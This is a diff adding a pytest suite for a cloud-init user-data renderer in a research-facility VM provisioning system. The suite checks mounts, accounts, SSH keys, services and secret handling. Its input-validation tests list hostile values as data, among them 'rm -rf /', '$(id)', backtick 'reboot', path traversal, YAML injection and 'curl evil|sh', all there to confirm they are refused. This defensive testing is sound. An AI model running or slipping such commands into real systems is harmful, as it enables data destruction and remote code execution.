@@ -1,0 +1,302 @@
+"""Rendered user-data: valid for cloud-init, for every image, with 0, 1 and many experiments."""
+
+from __future__ import annotations
+
+import logging
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from tests.provisioning.cloudinit import cloud_config_part, validate
+from tests.provisioning.factories import NOW, SECRET, make_experiment, make_image, make_instance, make_user
+from visa.errors import Forbidden, InvalidInput
+from visa.provisioning import readiness_ports, render_metadata, render_user_data
+from visa.settings import ProvisioningSettings
+
+PROBE_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZha2Vwcm9iZWtleWZvcnRlc3RzMDEyMzQ1Njc4OQ visa@scheduler"
+CATALOGUE = Path(__file__).resolve().parents[2] / "images"
+
+
+def _catalogue() -> dict[str, dict[str, Any]]:
+    """The images of the catalogue (images/*.yaml): protocols and options are what matter here."""
+    images = {}
+    for path in sorted(CATALOGUE.glob("*.yaml")):
+        spec = yaml.safe_load(path.read_text())
+        images[spec["name"]] = {"protocols": spec["protocols"], "options": spec.get("options") or {}}
+    return images
+
+
+IMAGES = _catalogue()
+
+
+def _files(config: dict[str, Any]) -> dict[str, dict[str, Any]]:
+    return {f["path"]: f for f in config["write_files"]}
+
+
+@pytest.fixture
+def site() -> ProvisioningSettings:
+    return ProvisioningSettings()
+
+
+@pytest.mark.parametrize("image_name", sorted(IMAGES))
+@pytest.mark.parametrize("experiment_count", [0, 1, 4])
+@pytest.mark.parametrize("with_open_data", [False, True], ids=["own-data", "open-data"])
+def test_every_image_renders_valid_cloud_config(
+    session, tmp_path, site, image_name: str, experiment_count: int, with_open_data: bool
+) -> None:
+    assert IMAGES, "the catalogue (images/*.yaml) has no images"
+    owner = make_user(session, "alice", uid_number=21001, gid_number=1200, home_path="/home/alice")
+    image = make_image(session, image_name, IMAGES[image_name]["protocols"], IMAGES[image_name]["options"])
+    beamlines = ["id21", "id16a", "bm05", "id19"]
+    experiments = [
+        make_experiment(session, f"ev{280 + i}", beamlines[i], members=[owner])
+        for i in range(experiment_count)
+    ]
+    open_data = []
+    if with_open_data:
+        open_data = [make_experiment(session, "hc4321", "id11", public_at=NOW - timedelta(days=1))]
+    instance = make_instance(session, owner, image, experiments)
+
+    user_data = render_user_data(
+        instance, site=site, now=NOW, probe_public_key=PROBE_KEY, open_data=open_data
+    )
+    config = validate(user_data, tmp_path)
+
+    targets = {m[1]: m for m in config.get("mounts", [])}
+    assert len(targets) == 2 * experiment_count + (1 if with_open_data else 0)
+    for exp in experiments:
+        raw = targets[f"/data/visitor/{exp.proposal.identifier}/{exp.instrument.name}"]
+        processed = targets[f"/data/processed/{exp.proposal.identifier}/{exp.instrument.name}"]
+        assert raw[3].startswith("ro,") and processed[3].startswith("rw,")
+    if with_open_data:
+        assert targets["/data/visitor/hc4321/id11"][3].startswith("ro,")
+        assert "/data/processed/hc4321/id11" not in targets
+
+    owner_account = config["users"][0]
+    assert owner_account["name"] == "alice" and owner_account["uid"] == 21001
+    assert owner_account["lock_passwd"] is True and config["ssh_pwauth"] is False
+    assert "passwd" not in owner_account and "ssh_authorized_keys" not in owner_account
+    probe = config["users"][1]
+    assert probe["name"] == "visa" and probe["ssh_authorized_keys"][0].endswith(PROBE_KEY)
+    assert probe["ssh_authorized_keys"][0].startswith('restrict,command="/usr/local/libexec/visa/probe" ')
+
+    files = _files(config)
+    options = IMAGES[image_name]["options"]
+    cvmfs = files["/etc/cvmfs/default.local"]["content"]
+    for repo in ["software.esrf.fr", "software.eessi.io", *options.get("cvmfs_repositories", [])]:
+        assert repo in cvmfs
+    assert "/etc/auto.master.d/cvmfs.autofs" in files
+    assert ("/etc/profile.d/visa-apptainer.sh" in files) == bool(options.get("apptainer"))
+
+    protocols = {p["protocol"]: p["port"] for p in IMAGES[image_name]["protocols"]}
+    enable = config["runcmd"][-1]
+    assert enable[:3] == ["systemctl", "enable", "--now"]
+    assert ("visa-desktop.service" in enable) == ("VNC" in protocols)
+    assert ("visa-jupyter.service" in enable) == ("JUPYTER" in protocols)
+    env = files["/etc/visa/instance.env"]["content"]
+    if "JUPYTER" in protocols:
+        assert f"VISA_JUPYTER_BASE_URL=/jupyter/{instance.uid}/" in env
+        assert f"VISA_JUPYTER_PORT={protocols['JUPYTER']}" in env
+    if "VNC" in protocols:
+        assert f"VISA_VNC_PORT={protocols['VNC']}" in env and "VISA_GEOMETRY=1280x800" in env
+        assert files["/etc/visa/desktop.secret"]["permissions"] == "0600"
+    for package in options.get("packages", []):
+        assert package in config["packages"]
+
+
+def test_screen_keyboard_and_session_come_from_the_instance(session, tmp_path, site) -> None:
+    owner = make_user(session, "bob")
+    image = make_image(session, "desktop", options={"desktop_session": "mate"})
+    instance = make_instance(
+        session, owner, image, screen_width=1920, screen_height=1080, keyboard_layout="fr-ch-qwertz"
+    )
+    config = validate(render_user_data(instance, site=site, now=NOW), tmp_path)
+    env = _files(config)["/etc/visa/instance.env"]["content"]
+    assert "VISA_GEOMETRY=1920x1080" in env
+    assert "VISA_XKB_LAYOUT=ch\n" in env and "VISA_XKB_VARIANT=fr\n" in env
+    assert "VISA_SESSION=mate-session" in env
+    # No uid/gid from the account source: the system picks them; home from the site default.
+    assert "uid" not in config["users"][0] and config["users"][0]["homedir"] == "/home/bob"
+    assert "bootcmd" not in config
+    # No probe key given anywhere: no probe account.
+    assert [u["name"] for u in config["users"]] == ["bob"]
+
+
+def test_ready_ports_are_the_required_protocols(session) -> None:
+    owner = make_user(session)
+    image = make_image(
+        session,
+        "desktop",
+        [{"protocol": "VNC", "port": 5901}, {"protocol": "JUPYTER", "port": 8888, "optional": True}],
+    )
+    instance = make_instance(session, owner, image)
+    assert readiness_ports(instance) == {"VNC": 5901}
+    assert render_metadata(instance)["visa_ready_ports"] == "VNC:5901"
+
+
+def test_boot_script_makes_multipart_user_data(session, tmp_path, site) -> None:
+    owner = make_user(session)
+    image = make_image(session, "bliss", options={"boot_script": "#!/bin/sh\necho bliss ready\n"})
+    instance = make_instance(session, owner, image)
+    user_data = render_user_data(instance, site=site, now=NOW)
+    assert user_data.startswith("Content-Type: multipart/mixed")
+    assert "text/x-shellscript" in user_data
+    validate(user_data, tmp_path)
+    assert render_user_data(instance, site=site, now=NOW) == user_data  # stable output
+
+
+def test_bind_mounts_for_the_local_provider(session, tmp_path) -> None:
+    site = ProvisioningSettings(
+        mount_type="bind",
+        raw_mount_template="/srv/visa/raw/{proposal}/{beamline}",
+        processed_mount_template="/srv/visa/processed/{proposal}/{beamline}",
+    )
+    owner = make_user(session)
+    instance = make_instance(session, owner, make_image(session), [make_experiment(session, members=[owner])])
+    config = validate(render_user_data(instance, site=site, now=NOW), tmp_path)
+    assert config["mounts"][0][:4] == [
+        "/srv/visa/raw/ev280/id21",
+        "/data/visitor/ev280/id21",
+        "none",
+        "bind,ro,nofail",
+    ]
+    assert config["mounts"][1][3] == "bind,rw,nofail"
+
+
+def test_ceph_mounts(session, tmp_path) -> None:
+    site = ProvisioningSettings(
+        mount_type="ceph", raw_mount_template="mon1.esrf.fr:6789:/volumes/visitor/{proposal}/{beamline}"
+    )
+    owner = make_user(session)
+    instance = make_instance(session, owner, make_image(session), [make_experiment(session, members=[owner])])
+    config = validate(render_user_data(instance, site=site, now=NOW), tmp_path)
+    assert config["mounts"][0][2] == "ceph" and "secretfile=/etc/ceph/visa.secret" in config["mounts"][0][3]
+
+
+def test_nothing_of_an_experiment_the_owner_is_not_a_member_of(session, tmp_path, site) -> None:
+    owner = make_user(session, "alice")
+    other = make_user(session, "mallory", uid_number=31337, home_path="/home/mallory")
+    mine = make_experiment(session, "ev280", "id21", members=[owner])
+    theirs = make_experiment(session, "ma9999", "id16a", members=[other])
+    instance = make_instance(session, owner, make_image(session), [mine, theirs])
+    user_data = render_user_data(instance, site=site, now=NOW, probe_public_key=PROBE_KEY)
+    validate(user_data, tmp_path)
+    for leaked in ["ma9999", "id16a", "mallory", "31337"]:
+        assert leaked not in user_data
+
+
+def test_open_data_under_embargo_is_refused(session, site) -> None:
+    owner = make_user(session)
+    closed = make_experiment(session, "hc1111", "id11", public_at=NOW + timedelta(days=30))
+    never = make_experiment(session, "hc2222", "id11", public_at=None)
+    instance = make_instance(session, owner, make_image(session))
+    for experiment in (closed, never):
+        with pytest.raises(Forbidden) as err:
+            render_user_data(instance, site=site, now=NOW, open_data=[experiment])
+        assert err.value.field == "open_data"
+    # Asked as a whole proposal: every experiment of it, read-only.
+    public = make_experiment(session, "hc3333", "id11", public_at=NOW - timedelta(days=1))
+    make_experiment(session, "hc3333", "bm05")
+    config = yaml.safe_load(
+        cloud_config_part(render_user_data(instance, site=site, now=NOW, open_data=[public.proposal]))
+    )
+    assert [m[1] for m in config["mounts"]] == ["/data/visitor/hc3333/id11", "/data/visitor/hc3333/bm05"]
+    assert all(m[3].startswith("ro,") for m in config["mounts"])
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("proposal", "../etc"),
+        ("proposal", "ev/280"),
+        ("proposal", "ev 280"),
+        ("proposal", "ev280;rm -rf /"),
+        ("proposal", "ev280$(id)"),
+        ("proposal", "ev280\n- evil: yes"),
+        ("beamline", ".."),
+        ("beamline", "id21/../../root"),
+        ("beamline", "id21 `reboot`"),
+        ("beamline", "id21: {a: b}"),
+        ("username", "../root"),
+        ("username", "al ice"),
+        ("username", "alice;id"),
+        ("username", "a\nb: c"),
+    ],
+)
+def test_names_that_would_escape_or_break_are_refused(session, site, field: str, value: str) -> None:
+    owner = make_user(session, value if field == "username" else "alice")
+    experiment = make_experiment(
+        session,
+        value if field == "proposal" else "ev280",
+        value if field == "beamline" else "id21",
+        members=[owner],
+    )
+    instance = make_instance(session, owner, make_image(session), [experiment])
+    with pytest.raises(InvalidInput) as err:
+        render_user_data(instance, site=site, now=NOW)
+    assert err.value.field == field
+    assert field in err.value.message
+
+
+def test_bad_image_options_and_instance_values_are_refused(session, site) -> None:
+    owner = make_user(session)
+    cases = [
+        ({"desktop_session": "kde; reboot"}, {}, "options.desktop_session"),
+        ({"packages": ["vim", "x; curl evil|sh"]}, {}, "options.packages"),
+        ({"cvmfs_repositories": ["../../etc"]}, {}, "options.cvmfs_repositories"),
+        ({"apptainer": "maybe"}, {}, "options.apptainer"),
+        ({}, {"keyboard_layout": "fr; reboot"}, "keyboard_layout"),
+        ({}, {"screen_width": 100000}, "screen_width"),
+        ({}, {"secret": "short"}, "secret"),
+    ]
+    for n, (options, values, field) in enumerate(cases):
+        instance = make_instance(session, owner, make_image(session, f"img{n}", options=options), **values)
+        with pytest.raises(InvalidInput) as err:
+            render_user_data(instance, site=site, now=NOW)
+        assert err.value.field == field, (options, values)
+    good = make_instance(session, owner, make_image(session, "good"))
+    for key in ["ssh-ed25519 AAAA\nssh-rsa BBBB", 'command="sh" ssh-ed25519 AAAA', "not a key"]:
+        with pytest.raises(InvalidInput) as err:
+            render_user_data(good, site=site, now=NOW, probe_public_key=key)
+        assert err.value.field == "probe_public_key"
+
+
+def test_yaml_special_characters_in_free_text_stay_data(session, tmp_path, site) -> None:
+    owner = make_user(session, "carol", full_name="Carol: {evil: true}\n- name: root\n  sudo: ALL")
+    instance = make_instance(session, owner, make_image(session))
+    config = validate(render_user_data(instance, site=site, now=NOW), tmp_path)
+    assert [u["name"] for u in config["users"]] == ["carol"]
+    assert "sudo" not in config["users"][0]
+    assert "\n" not in config["users"][0]["gecos"] and ":" not in config["users"][0]["gecos"]
+
+
+def test_secrets_never_logged_and_metadata_has_none(session, site, caplog) -> None:
+    owner = make_user(session)
+    instance = make_instance(
+        session,
+        owner,
+        make_image(
+            session, "desktop", [{"protocol": "VNC", "port": 5901}, {"protocol": "JUPYTER", "port": 8888}]
+        ),
+    )
+    with caplog.at_level(logging.DEBUG):
+        user_data = render_user_data(instance, site=site, now=NOW)
+    assert SECRET in user_data  # the machine needs it...
+    assert SECRET not in caplog.text  # ...the logs never see it
+    assert caplog.text  # something was logged
+    assert SECRET not in str(render_metadata(instance))
+    masked = render_user_data(instance, site=site, now=NOW, mask_secrets=True)
+    assert SECRET not in masked and "********" in masked
+
+
+def test_metadata_values_fit_nova(session) -> None:
+    owner = make_user(session, uid_number=1000, gid_number=1000, home_path="/home/alice")
+    experiments = [make_experiment(session, f"ev{n:04d}", f"bl{n:02d}", members=[owner]) for n in range(60)]
+    instance = make_instance(session, owner, make_image(session), experiments)
+    metadata = render_metadata(instance)
+    assert all(isinstance(v, str) and len(v) <= 255 for v in metadata.values())
+    assert metadata["visa_owner"] == "alice" and metadata["visa_uid_number"] == "1000"
+    assert metadata["visa_proposals"].startswith("ev0000,ev0001")
